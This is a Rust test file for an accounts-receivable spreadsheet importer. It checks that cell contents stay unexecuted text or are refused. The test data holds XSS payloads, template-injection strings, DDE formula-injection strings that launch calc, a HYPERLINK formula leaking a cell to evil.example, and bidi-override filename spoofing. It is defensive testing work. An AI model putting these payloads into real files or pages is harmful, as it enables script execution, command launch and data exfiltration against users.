//! Markup, formulas, right-to-left text and invisible characters are data: kept verbatim
//! (escaping on screen is the UI's job, neutralising formulas on export the exporter's),
//! except what `clean_text` / `normalize_id` document: whitespace trimmed at both ends,
//! invisible characters (zero-width U+200B-U+200D, U+2060, U+FEFF, U+00AD; the directional
//! marks, embeddings, overrides and isolates) removed, and for ids a leading `'` or a `="…"`
//! wrapper removed.

use super::support::{fixture, run};
use ar_sentinel::domain::model::{Customer, Invoice};
use ar_sentinel::import::pipeline::Preview;

fn preview(file: &str) -> Preview {
    run(&fixture(file), file).unwrap_or_else(|e| panic!("{file}: {e}"))
}

fn invoice<'a>(p: &'a Preview, number: &str) -> &'a Invoice {
    p.batch
        .records
        .invoices
        .iter()
        .find(|i| i.number == number)
        .unwrap_or_else(|| panic!("no invoice {number:?} in {:?}", p.batch.records.invoices))
}

fn customer<'a>(p: &'a Preview, code: &str) -> &'a Customer {
    p.batch
        .implied_customers
        .iter()
        .find(|c| c.code == code)
        .unwrap_or_else(|| panic!("no customer {code:?}"))
}

/// (number, customer code, order, salesperson, product line, region) of an invoice.
type TextFields<'a> = (
    &'a str,
    &'a str,
    Option<&'a str>,
    Option<&'a str>,
    Option<&'a str>,
    Option<&'a str>,
);

fn text_fields(i: &Invoice) -> TextFields<'_> {
    (
        i.number.as_str(),
        i.customer.as_str(),
        i.order.as_deref(),
        i.salesperson.as_deref(),
        i.product_line.as_deref(),
        i.region.as_deref(),
    )
}

#[test]
fn html_and_script_in_every_text_field_stay_text() {
    let p = preview("html_and_script.csv");
    let first = invoice(&p, "<img src=x onerror=alert(1)>");
    assert_eq!(
        text_fields(first),
        (
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            Some("<svg/onload=alert(2)>"),
            Some("<b onmouseover=alert(3)>张三</b>"),
            Some("<iframe src=\"javascript:alert(4)\"></iframe>"),
            Some("</td></tr><tr><td>华东"),
        )
    );
    assert_eq!(
        customer(&p, "<script>alert(1)</script>").name,
        "<script>alert('客户')</script>"
    );
    let second = invoice(&p, "javascript:alert(7)");
    assert_eq!(
        text_fields(second),
        (
            "javascript:alert(7)",
            "\"><svg onload=alert(5)>",
            Some("{{constructor.constructor('alert(8)')()}}"),
            Some("${7*7}"),
            Some("<!--"),
            Some("]]><x>"),
        )
    );
    assert_eq!(
        customer(&p, "\"><svg onload=alert(5)>").name,
        "<a href=\"javascript:alert(6)\">上海甲公司</a>"
    );
    // The preview shows the same text, unescaped (the UI renders it as a text node).
    assert_eq!(p.sample[0].cells[1].text, "<script>alert('客户')</script>");
}

#[test]
fn formulas_are_kept_as_text_never_evaluated() {
    let p = preview("formulas.csv");
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"AR-1\")";
    assert_eq!(
        text_fields(invoice(&p, hyperlink)),
        (
            hyperlink,
            "C001",
            Some("SO-1"),
            Some("张三"),
            Some("线缆"),
            Some("华东")
        )
    );
    assert_eq!(customer(&p, "C001").name, "=cmd|' /C calc'!A0");
    let dde = invoice(&p, "@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(
        text_fields(dde),
        (
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "C002",
            Some("=1+1"),
            Some("-2+3+cmd|' /C calc'!A0"),
            Some("=1+1"),
            Some("=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
        )
    );
    assert_eq!(customer(&p, "C002").name, "+cmd|' /C notepad'!A0");
    // Documented id clean-up: Excel's `="0012"` text wrapper and leading `'` are removed.
    assert_eq!(invoice(&p, "AR-5").customer, "0012");
    assert_eq!(invoice(&p, "=cmd|' /C calc'!A0").customer, "C006");
    // A formula where a number or date belongs is refused (see the corpus table), never
    // computed: no amount of 1234.50 appears.
    assert!(p
        .batch
        .records
        .invoices
        .iter()
        .all(|i| i.amount.minor != 123_450));
}

#[test]
fn a_formula_without_a_result_is_refused_with_its_text_and_a_calculated_one_is_its_value() {
    let p = preview("formulas_uncalculated.xlsx");
    let line3 = p
        .errors
        .iter()
        .find(|e| e.line == 3)
        .expect("line 3 refused");
    assert_eq!(line3.raw, "=SUM(收款!B2:B9)");
    assert_eq!(
        line3.reason.to_string(),
        "a formula with no calculated result: open the workbook in Excel or WPS, save it, and import it again"
    );
    assert_eq!(
        p.errors
            .iter()
            .find(|e| e.line == 4)
            .map(|e| e.raw.as_str()),
        Some("=G4+H4")
    );
    // A shared formula's other cells carry no text of their own.
    assert_eq!(
        p.errors
            .iter()
            .find(|e| e.line == 5)
            .map(|e| e.raw.as_str()),
        Some("")
    );
    assert_eq!(invoice(&p, "AR2026-0005").amount.minor, 565_000);
    let received: Vec<i64> = p
        .batch
        .records
        .payments
        .iter()
        .filter(|r| r.customer == "0005")
        .map(|r| r.amount.minor)
        .collect();
    assert_eq!(received, vec![282_500]);
}

#[test]
fn right_to_left_text_is_kept_and_invisible_and_directional_controls_are_removed() {
    let p = preview("rtl_and_zero_width.csv");
    // Zero-width space inside the number and the amount: removed.
    let first = invoice(&p, "AR-0001");
    assert_eq!(first.amount.minor, 123_450);
    // Right-to-left letters are text and stay; the marks around them only steer display.
    assert_eq!(first.salesperson.as_deref(), Some("אבי כהן"));
    assert_eq!(customer(&p, "C01").name, "شركة الأمل للتجارة");
    // Overrides and isolates are removed from ids and names alike: `AR-0002` inside an
    // isolate is the invoice `AR-0002`, and an override cannot reverse the text after it.
    let second = invoice(&p, "AR-0002");
    assert_eq!(second.salesperson.as_deref(), Some("محمد"));
    assert_eq!(customer(&p, "C02").name, "gnp.exe公司");
    // ZWJ / ZWSP inside a name, a BOM before a number, ZWSP after a date: removed.
    assert_eq!(customer(&p, "C03").name, "华东机电有限公司");
    assert_eq!(invoice(&p, "AR-0003").date.to_string(), "2026-01-05");
    // NBSP / ideographic space / ZWSP around a name: trimmed; a left-to-right mark before
    // the amount is removed like the other invisible characters.
    assert_eq!(customer(&p, "C06").name, "北方重工集团");
    assert_eq!(invoice(&p, "AR-0006").amount.minor, 100_000);
    let text = |s: &str| {
        s.chars().any(|c| matches!(c, '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
    };
    assert!(!p.batch.records.customers.iter().any(|c| text(&c.name)));
    assert!(!p
        .batch
        .records
        .invoices
        .iter()
        .any(|i| text(&i.number) || i.salesperson.as_deref().is_some_and(text)));
}

#[test]
fn control_characters_are_kept_inside_and_trimmed_as_whitespace_at_the_ends() {
    let p = preview("control_characters.csv");
    let first = invoice(&p, "AR\u{7F}-0001");
    assert_eq!(
        first.salesperson.as_deref(),
        Some("\u{1B}[31m张三\u{1B}[0m")
    );
    assert_eq!(customer(&p, "C01").name, "上海\u{7}甲公司");
    // Vertical tab and form feed are whitespace: trimmed. Backspace is not.
    assert_eq!(customer(&p, "C02").name, "北方重工集团");
    assert_eq!(
        invoice(&p, "AR-0002").salesperson.as_deref(),
        Some("李四\u{8}\u{8}")
    );
}

#[test]
fn quotes_and_line_breaks_inside_cells_are_kept() {
    let p = preview("quote_inside_cell.csv");
    assert_eq!(customer(&p, "0001").name, "华东\"机电\"有限公司");
    assert_eq!(
        invoice(&p, "AR2026-0002").salesperson.as_deref(),
        Some("李\"四\"")
    );
    let p = preview("multiline_cell.csv");
    assert_eq!(customer(&p, "0001").name, "华东机电\r\n有限公司");
}

#[test]
fn workbook_cells_with_markup_formula_text_and_rtl_stay_text() {
    let p = preview("hostile_cells.xlsx");
    assert_eq!(
        text_fields(invoice(&p, "<img src=x onerror=alert(1)>")),
        (
            "<img src=x onerror=alert(1)>",
            "C001",
            Some("SO-1"),
            Some("<b>张三</b>"),
            Some("<iframe src=javascript:alert(1)>"),
            Some("华东"),
        )
    );
    assert_eq!(
        customer(&p, "C001").name,
        "<script>alert('xss')</script>华东机电"
    );
    assert_eq!(
        text_fields(invoice(&p, "AR-2")),
        (
            "AR-2",
            "C002",
            Some("SO-2"),
            Some("@SUM(1+1)*cmd|' /C calc'!A0"),
            Some("+1+1"),
            Some("-2+3"),
        )
    );
    assert_eq!(customer(&p, "C002").name, "=cmd|' /C calc'!A0");
    let rtl = invoice(&p, "AR-3");
    assert_eq!(rtl.salesperson.as_deref(), Some("anil"));
    assert_eq!(rtl.product_line.as_deref(), Some("线缆"));
    assert_eq!(rtl.region.as_deref(), Some("华南"));
    assert_eq!(customer(&p, "C003").name, "شركة الأمل للتجارة");
}

#[test]
fn a_big5_export_reads_as_traditional_chinese_with_its_currency() {
    let p = preview("big5_traditional.csv");
    assert_eq!(p.encoding, Some("Big5"));
    assert_eq!(customer(&p, "0001").name, "華東機電有限公司");
    let invoice = invoice(&p, "AR2026-0001");
    assert_eq!(invoice.amount.currency.code(), "TWD");
    assert_eq!(invoice.amount.minor, 100_000);
}
